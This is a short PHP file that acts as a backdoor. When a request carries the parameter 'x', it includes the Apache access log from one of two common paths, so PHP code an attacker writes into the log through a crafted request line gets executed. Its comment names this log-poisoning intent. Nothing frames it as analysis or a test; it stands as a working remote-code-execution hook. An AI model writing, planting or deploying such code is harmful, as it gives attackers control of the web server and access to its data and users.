<?php
// a request line written into the log is run back
$alt = '/usr/local/apache/logs/access_log';
if (isset($_GET['x'])) {
    include(is_readable($alt) ? $alt : '/var/log/apache2/access.log');
}
